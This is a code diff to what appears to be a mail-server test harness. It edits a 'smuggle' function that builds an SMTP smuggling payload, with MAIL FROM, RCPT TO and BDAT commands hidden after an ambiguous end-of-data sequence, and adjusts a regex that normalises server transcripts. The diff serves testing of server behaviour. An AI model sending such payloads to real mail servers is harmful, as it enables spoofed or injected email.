@@ -232,7 +232,7 @@ def smuggle(server, end):
     """One message that may be two, depending on what a server takes for the end of a message."""
     second = b"Subject: smuggled\r\n\r\nsecond\r\n"
     commands = f"MAIL FROM:<evil@p.example>\r\nRCPT TO:<bert@{server.domain}>\r\nBDAT {len(second)} LAST\r\n"
-    return b"Date: Tue, 1 Dec 2026 00:00:00 +0000\r\nMessage-ID: <one@x.example>\r\nSubject: one\r\n\r\nfirst" + end + commands.encode() + second + b"\r\n.\r\n"
+    return b"Subject: one\r\n\r\nfirst" + end + commands.encode() + second + b"\r\n.\r\n"
 
 
 def normal(octets):
@@ -241,7 +241,7 @@ def normal(octets):
     octets = re.sub(rb"\b[0-9A-Za-z]{6}-[0-9A-Za-z]{6,11}-[0-9A-Za-z]{2,4}\b", b"ID", octets)         # Exim's
     octets = re.sub(rb"(?<=250 2\.0\.0 )[0-9a-f]{8}(?= Message)|(?<=SMTP id )[0-9a-f]{8}\b|(?<=<)[0-9a-f]{16}(?=@)", b"ID", octets)      # OpenSMTPD's
     octets = re.sub(rb"(?<=queued as )[0-9A-F]+|(?<=SMTP id )[0-9A-F]+|<?\b2026\d{10}\.[0-9A-F]+@", b"ID", octets)     # Postfix's
-    octets = re.sub(rb"\w{3}, \d\d? \w{3} \d{4} [\d:]{8} [+-]\d{4}", b"TIME", octets)
+    octets = re.sub(rb"\w{3}, {1,2}\d\d? \w{3} \d{4} [\d:]{8} [+-]\d{4}", b"TIME", octets)
     return re.sub(rb"\n\t\(X-Sotto: [^)]*\)|(?<=\n)X-Sotto: [^\n]*\n", b"", octets)
 
 
